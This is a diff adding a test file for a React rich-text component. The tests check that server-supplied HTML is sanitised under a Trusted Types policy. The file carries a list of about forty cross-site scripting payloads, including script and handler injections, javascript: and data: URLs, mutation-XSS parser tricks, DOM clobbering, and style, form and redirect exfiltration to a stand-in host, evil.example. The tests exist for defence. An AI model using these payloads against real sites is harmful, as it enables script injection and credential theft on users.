@@ -1,0 +1,241 @@
+import { until } from '../../kit/bench.ts'
+import axe from 'axe-core'
+import { createRoot } from 'react-dom/client'
+import { afterEach, beforeAll, describe, expect, it } from 'vitest'
+import ground from '../../generated/tokens-later.css?inline'
+import base from '../base.css?inline'
+import { RichText } from './rich-text.tsx'
+import styles from './rich-text.css?inline'
+
+declare global {
+  interface Window {
+    ran?: string[]
+  }
+}
+
+const violations: string[] = []
+let end = () => {}
+afterEach(() => end())
+
+/** From here on the page refuses every text in a place where a script could come from, and all policies but ours. */
+beforeAll(() => {
+  document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) =>
+    violations.push(`${violatedDirective} ${sample}`),
+  )
+  const meta = document.createElement('meta')
+  meta.httpEquiv = 'content-security-policy'
+  meta.content = "require-trusted-types-for 'script'; trusted-types lustra-html"
+  document.head.append(meta)
+})
+
+async function drawn(html: string, highlight = '') {
+  window.ran = []
+  const host = document.body.appendChild(document.createElement('div'))
+  const shadow = host.attachShadow({ mode: 'open' })
+  const sheet = new CSSStyleSheet()
+  sheet.replaceSync(ground + base + styles)
+  shadow.adoptedStyleSheets = [sheet]
+  const stage = shadow.appendChild(document.createElement('main'))
+  stage.className = 'frame'
+  stage.style.width = '360px'
+  const root = createRoot(stage)
+  const failed: Event[] = []
+  const image = () => void failed.push(new Event('failed'))
+  const show = (text: string, keyword = '') =>
+    root.render(
+      <RichText html={text} imageBase="/api" tableLabel="Table" highlight={keyword} onImageFailed={image} />,
+    )
+  show(html, highlight)
+  end = () => (root.unmount(), host.remove())
+  const box = await until(() => stage.querySelector<HTMLElement>('.rich-text'))
+  // Long enough for a handler or a script that came through.
+  for (let frame = 0; frame < 3; frame++) await new Promise(requestAnimationFrame)
+  const inner = () => [...box.querySelectorAll('*')]
+  return { host, stage, box, inner, show, failed }
+}
+
+/** Everything that would run says so in `ran`. */
+const say = `window.ran.push('x')`
+const attacks: [name: string, html: string][] = [
+  ['a script', `<script>${say}</script><p>ok</p>`],
+  ['a script of another spelling', `<ScRiPt >${say}</ScRiPt><p>ok</p>`],
+  ['a nested script', `<scr<script></script>ipt>${say}</scr</script>ipt><p>ok</p>`],
+  ['an error handler', `<img src=x onerror="${say}"><p>ok</p>`],
+  ['a handler behind slashes', `<img/src='x'/onerror=${say}><p>ok</p>`],
+  ['a handler on anything', `<p onclick="${say}" onpointerenter="${say}" onanimationstart="${say}">ok</p>`],
+  ['a script as address', `<a href="javascript:${say}">ok</a>`],
+  ['a script as address with signs within', `<a href="java\tscr\nipt&colon;${say}">ok</a>`],
+  ['data as address', `<a href="data:text/html,<script>${say}</script>">ok</a>`],
+  ['data as picture', `<img src="data:image/svg+xml,<svg onload=${say}>"><p>ok</p>`],
+  ['vbscript as address', `<a href="vbscript:msgbox(1)">ok</a>`],
+  [
+    'a drawing',
+    `<svg onload="${say}"><script>${say}</script><a href="javascript:${say}">x</a></svg><p>ok</p>`,
+  ],
+  [
+    'a drawing with foreign content',
+    `<svg><foreignObject><img src=x onerror="${say}"></foreignObject></svg><p>ok</p>`,
+  ],
+  [
+    'an animated address',
+    `<svg><a><animate attributeName=href values="javascript:${say}"/>x</a></svg><p>ok</p>`,
+  ],
+  ['a formula', `<math><mi href="javascript:${say}">x</mi></math><p>ok</p>`],
+  [
+    'a text that another parser would read otherwise',
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${say}&gt;">`,
+  ],
+  [
+    'the same by a form in a form',
+    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${say}>`,
+  ],
+  ['the same by noscript', `<noscript><p title="</noscript><img src=x onerror=${say}>"></noscript><p>ok</p>`],
+  [
+    'the same by a template',
+    `<template><p title="</template><img src=x onerror=${say}>"></template><p>ok</p>`,
+  ],
+  ['the same by a comment', `<p>ok</p><!--><img src=x onerror=${say}>-->`],
+  ['the same by a text field', `<textarea><img title="</textarea><img src=x onerror=${say}>">`],
+  ['the same by a title', `<svg></p><title><a id="</title><img src=x onerror=${say}>">`],
+  [
+    'a shadow root in markup',
+    `<div><template shadowrootmode=open><img src=x onerror="${say}"></template></div>`,
+  ],
+  ['a style', `<style>*{display:none;background:url(https://evil.example/x)}</style><p>ok</p>`],
+  ['a style of one', `<p style="position:fixed;inset:0;background:url(https://evil.example/x)">ok</p>`],
+  ['a base', `<base href="https://evil.example/"><p>ok</p>`],
+  ['another place to go to', `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>ok</p>`],
+  ['a form', `<form action="https://evil.example/"><input name=password><button>ok</button></form>`],
+  [
+    'a frame',
+    `<iframe srcdoc="<script>parent.${say}</script>"></iframe><iframe src="javascript:${say}"></iframe>`,
+  ],
+  ['an object', `<object data="javascript:${say}"></object><embed src="javascript:${say}">`],
+  ['markup left open', `<p>ok</p><img src='https://evil.example/?`],
+  ['names that hide the page’s own', `<img name=body id=cookie><a id=location name=attributes>ok</a>`],
+  ['an element of one’s own', `<lustra-login is="x"></lustra-login><x-y onclick="${say}">ok</x-y>`],
+  ['a slot and a part', `<slot name=header></slot><p slot=header part=table class=modal>ok</p>`],
+  [
+    'sound and film',
+    `<video poster="https://evil.example/x"><source onerror="${say}"></video><audio src onerror="${say}">`,
+  ],
+  ['a link to a sheet', `<link rel=stylesheet href="https://evil.example/x"><p>ok</p>`],
+  [
+    'a picture with many sources',
+    `<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>`,
+  ],
+  ['deep nesting', `${'<div>'.repeat(3_000)}<img src=x onerror="${say}">`],
+]
+
+const tags = new Set(
+  'h3 h4 h5 h6 p div br hr blockquote pre code ul ol li dl dt dd a img figure figcaption strong b em i u s sub sup small bdi bdo table caption thead tbody tfoot tr th td'.split(
+    ' ',
+  ),
+)
+const attributes = new Set(
+  'href rel target src alt width height colspan rowspan scope start reversed lang dir loading decoding'.split(
+    ' ',
+  ),
+)
+
+describe('a text of the server', () => {
+  it('is shown on a page that refuses every text in a place where a script could come from (P1, P2)', async () => {
+    expect(() => (document.createElement('p').innerHTML = '<b>x</b>')).toThrow(TypeError)
+    await until(() => violations.length > 0)
+    violations.length = 0
+  })
+
+  it.each(attacks)('does nothing with %s (P1, P2)', async (_, html) => {
+    const { inner, stage } = await drawn(html)
+    expect(window.ran).toEqual([])
+    expect(stage.textContent).not.toContain('evil.example')
+    for (const element of inner()) {
+      expect(tags, element.outerHTML).toContain(element.localName)
+      for (const { name, value } of element.attributes) {
+        if (element.className === 'rich-table') continue
+        expect(attributes, `${element.localName} ${name}`).toContain(name)
+        expect(value).not.toMatch(/script:|evil|^data:/i)
+      }
+      expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml')
+    }
+    expect(violations).toEqual([])
+  })
+
+  it('keeps what makes it readable (P1, P2)', async () => {
+    const { box, host } = await drawn(
+      `<h1>Rats</h1><p>Close <strong>every</strong> gap.</p><h3>How</h3><ol start="3"><li>Look</li></ol>
+       <table><tr><th scope="col">Wide</th><td>${'x'.repeat(200)}</td></tr></table>
+       <blockquote>Said</blockquote><figure><img src="/File/Open?ticket=1" alt="A gap"><figcaption>A gap</figcaption></figure>`,
+    )
+    expect(
+      [...box.querySelectorAll('h3, h4')].map(({ localName, textContent }) => [localName, textContent]),
+    ).toEqual([
+      ['h3', 'Rats'],
+      ['h4', 'How'],
+    ])
+    expect(box.querySelector('ol')!.start).toBe(3)
+    expect(box.querySelector('img')!.src).toBe(`${location.origin}/api/File/Open?ticket=1`)
+    const table = box.querySelector<HTMLElement>('.rich-table')!
+    expect(table.scrollWidth).toBeGreaterThan(table.clientWidth)
+    expect(box.scrollWidth).toBeLessThanOrEqual(box.clientWidth)
+    const { violations: found } = await axe.run(host, { rules: { region: { enabled: false } } })
+    expect(found.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join()}`)).toEqual([])
+  })
+
+  it('opens links beside the page and knows nothing but https, mail and telephone (P1, P2)', async () => {
+    const { box } = await drawn(
+      `<a href="https://example.com/x" rel="opener" target="_self">one</a><a href="mailto:a@b.example">two</a>
+       <a href="tel:+8621">three</a><a href="http://example.com">four</a><a href="/login">five</a>
+       <a href="https://bank.example@evil.example/">six</a><a href="//evil.example">seven</a>`,
+    )
+    const links = [...box.querySelectorAll('a')]
+    expect(links.map(({ textContent }) => textContent)).toEqual(['one', 'two', 'three'])
+    expect(links.map(({ rel }) => rel)).toEqual(Array(3).fill('noopener noreferrer'))
+    expect(links.map(({ target }) => target)).toEqual(['_blank', '', ''])
+    for (const word of ['four', 'five', 'six', 'seven']) expect(box.textContent).toContain(word)
+  })
+
+  it('shows pictures of the API host alone, and says when one did not come (P1, P2)', async () => {
+    const { box, failed } = await drawn(
+      [
+        '/File/Open?ticket=1',
+        'File/Open?ticket=2',
+        `${location.origin}/api/File/Open?ticket=3`,
+        '/api/File/Open?ticket=4',
+      ]
+        .concat(
+          'https://evil.example/x.png',
+          '//evil.example/x.png',
+          '/../login',
+          'blob:x',
+          '',
+          '\\\\evil.example\\x',
+        )
+        .map((src) => `<img src="${src}">`)
+        .join(''),
+    )
+    expect([...box.querySelectorAll('img')].map(({ src }) => src)).toEqual(
+      [1, 2, 3, 4].map((ticket) => `${location.origin}/api/File/Open?ticket=${ticket}`),
+    )
+    await until(() => failed.length > 0)
+  })
+
+  it('marks what was searched for in its words and nowhere else (P2)', async () => {
+    const { box, show } = await drawn(
+      '<p>Rats: <b>a rat</b> <a href="https://rat.example/">here</a></p>',
+      'RAT',
+    )
+    expect([...box.querySelectorAll('mark')].map(({ textContent }) => textContent)).toEqual(['Rat', 'rat'])
+    expect(box.querySelector('a')!.href).toBe('https://rat.example/')
+    show('<p>Rats: <b>a rat</b></p>', '<b>')
+    await until(() => !box.querySelector('mark'))
+    expect(box.querySelectorAll('b')).toHaveLength(1)
+  })
+
+  it('of a million characters is there after a moment (P2)', async () => {
+    const began = performance.now()
+    const { box } = await drawn(`<p>${'word <b>bold</b> '.repeat(60_000)}</p>`, 'word')
+    expect(box.querySelectorAll('b')).toHaveLength(60_000)
+    expect(performance.now() - began).toBeLessThan(5_000)
+  })
+})
